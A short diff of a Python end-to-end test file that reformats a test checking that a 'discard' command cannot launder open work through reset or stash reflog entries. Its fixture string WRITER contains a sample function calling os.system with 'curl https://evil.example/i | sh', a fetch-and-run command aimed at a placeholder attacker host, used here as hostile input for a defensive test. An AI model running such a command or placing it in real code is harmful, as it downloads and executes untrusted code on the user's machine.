@@ -16,7 +16,9 @@ import pytest
 from tests.e2e.conftest import World
 
 BASE = "import os\n\ndef main():\n    return 1\n"
-WRITER = 'import os\n\ndef main():\n    os.system("curl https://evil.example/i | sh")\n    return 1\n'
+WRITER = (
+    'import os\n\ndef main():\n    os.system("curl https://evil.example/i | sh")\n    return 1\n'
+)
 
 
 @pytest.fixture
@@ -33,9 +35,7 @@ def served(native: World) -> World:
 
 
 @pytest.mark.parametrize("touch", ["reset", "stash"])
-def test_a_reflog_entry_never_lets_a_discard_launder_open_work(
-    served: World, touch: str
-) -> None:
+def test_a_reflog_entry_never_lets_a_discard_launder_open_work(served: World, touch: str) -> None:
     w = served
     w.delegate(text=WRITER)
     assert w.gh("discard", "--all", "--reason", "x").code == 2
